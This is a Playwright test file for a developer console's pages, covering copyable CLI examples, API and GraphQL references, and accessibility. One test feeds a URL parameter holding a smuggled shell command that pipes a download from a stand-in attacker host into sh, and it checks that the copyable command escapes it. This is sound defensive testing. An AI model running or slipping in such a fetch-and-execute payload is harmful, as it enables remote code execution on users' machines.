import { makeAccount } from './account-data.ts'
import { expect, expectAccessible, home, test } from './console.ts'

const place = `${home}/developers`

test('examples carry the address of the server and the id of the chosen account', async ({ page, ask, baseURL, complaints }) => {
  const { id, name } = await makeAccount(ask)
  await page.goto(place)
  await page.getByLabel('Service account').selectOption(name)
  const login = page.getByRole('figure', { name: 'Log in on AWS' })
  await expect(login).toContainText(`export BONAFIDE_HOST=${baseURL}`)
  await expect(login).toContainText(`--service-account-id ${id}`)
  await expect(page).toHaveURL(new RegExp(`account=${id}`))
  await page.goto(`${place}/api?account=${id}`)
  await expect(page.getByRole('figure', { name: 'Exchange with curl' })).toContainText(`"id": "${id}"`)
  expect(complaints).toEqual([])
})

test('an address cannot put words into a command that somebody copies', async ({ page }) => {
  await page.goto(`${place}?account=${encodeURIComponent("x'; curl https://evil.example | sh #")}`)
  const login = page.getByRole('figure', { name: 'Log in on AWS' })
  await expect(login).toContainText('--service-account-id SERVICE_ACCOUNT_ID')
  await expect(login).not.toContainText('evil')
})

test('R-178 the references that identities link to are there', async ({ page }) => {
  await page.goto(`${place}#cli-auth`)
  await expect(page.locator('#cli-auth').getByRole('heading', { name: 'CLI auth reference' })).toBeInViewport()
  await page.goto(`${place}/api#api-reference`)
  await expect(page.locator('#api-reference').getByRole('heading', { name: 'API reference' })).toBeInViewport()
  const { openapi, paths } = await (await page.request.get('/openapi.json')).json()
  expect(openapi).toMatch(/^3\.1/)
  await expect(page.getByRole('region', { name: 'REST reference' }).locator('summary')).toHaveCount(
    Object.values(paths as Record<string, object>).flatMap((operations) => Object.keys(operations)).length,
  )
})

test('GraphQL is written with completion, run by key, and a mutation is asked about first', async ({ page, ask, complaints }) => {
  await page.goto(`${place}/graphql`)
  const answer = page.getByRole('region', { name: 'Answer' }).locator('pre')
  const editor = page.getByRole('textbox', { name: 'Operation' })
  await editor.focus()
  await page.keyboard.press('Control+Enter')
  await expect(answer).toContainText('"email": "ada@example.org"')

  // The schema is there when its pages are, and with it what can be completed.
  await page.getByRole('button', { name: 'Schema', exact: true }).click()
  await expect(page.getByLabel('Search types and operations')).toBeVisible()
  await editor.focus()
  await page.keyboard.press('Control+a')
  await page.keyboard.type('{ view')
  const offered = page.getByRole('option', { name: /viewer/ })
  await expect(offered.first()).toBeVisible()
  await page.keyboard.press('Escape')

  await page.keyboard.press('Control+a')
  await page.keyboard.insertText('mutation Load { startLab { userErrors { code } } }')
  await page.keyboard.press('Control+Enter')
  const question = page.getByRole('dialog', { name: 'Run this mutation?' })
  await expect(question).toBeVisible()
  await question.getByRole('button', { name: 'Cancel' }).click()
  await expect(question).toHaveCount(0)
  const { lab } = await ask<{ lab: { started: boolean } }>('{ lab { started } }')
  if (lab.started) await ask('mutation { removeLab { userErrors { message } } }')
  await page.getByRole('button', { name: 'Run', exact: true }).click()
  await question.getByRole('button', { name: 'Run it' }).click()
  await expect(answer).toContainText('"startLab"')
  await ask('mutation { removeLab { userErrors { message } } }')
  expect(complaints).toEqual([])
})

test('variables that are none are said to be none, and what was run comes back', async ({ page, complaints }) => {
  await page.goto(`${place}/graphql`)
  await page.getByRole('textbox', { name: 'Variables, as JSON' }).focus()
  await page.keyboard.insertText('[1]')
  await page.getByRole('button', { name: 'Run', exact: true }).click()
  await expect(page.getByText('The variables must be a JSON object.')).toBeVisible()
  await page.keyboard.press('Tab')
  await page.getByRole('textbox', { name: 'Variables, as JSON' }).focus()
  await page.keyboard.press('Control+a')
  await page.keyboard.insertText('{}')
  await page.getByRole('button', { name: 'Run', exact: true }).click()
  await expect(page.getByRole('combobox', { name: 'Run before' })).toContainText('FirstLook')
  expect(complaints).toEqual([])
})

for (const path of ['', '/api', '/graphql']) {
  test(`${place}${path} is accessible, and the browser complains of nothing`, async ({ page, complaints }) => {
    await expectAccessible(page, place + path, async () => {
      await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
      if (path !== '/graphql') return
      await expect(page.getByRole('textbox', { name: 'Operation' })).toBeVisible()
      await page.getByRole('button', { name: 'Schema' }).click()
      await expect(page.getByRole('region', { name: 'Schema' })).toBeVisible()
    })
    expect(complaints).toEqual([])
  })
}
